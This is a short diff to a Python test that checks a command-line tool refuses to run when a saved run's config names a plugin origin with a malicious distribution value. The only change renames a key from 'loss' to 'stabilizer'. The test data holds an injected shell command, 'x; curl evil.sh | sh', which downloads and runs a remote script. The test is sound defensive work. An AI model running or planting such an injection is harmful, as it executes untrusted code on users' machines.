@@ -118,7 +118,7 @@ def test_plugins(ganzoo, shown, plugins):
 def test_a_run_whose_plugin_is_gone_is_told_no_command(shown, run_folder):
     file = Path(run_folder, "config.json")
     config = json.loads(file.read_text())
-    config["origins"] = {f"loss {EVIL}": {"distribution": "x; curl evil.sh | sh", "version": EVIL}}
+    config["origins"] = {f"stabilizer {EVIL}": {"distribution": "x; curl evil.sh | sh", "version": EVIL}}
     file.write_text(json.dumps(config))
     for command in ("sample", "eval", "resume --steps 4"):
         told = shown(command, run_folder, code=2)
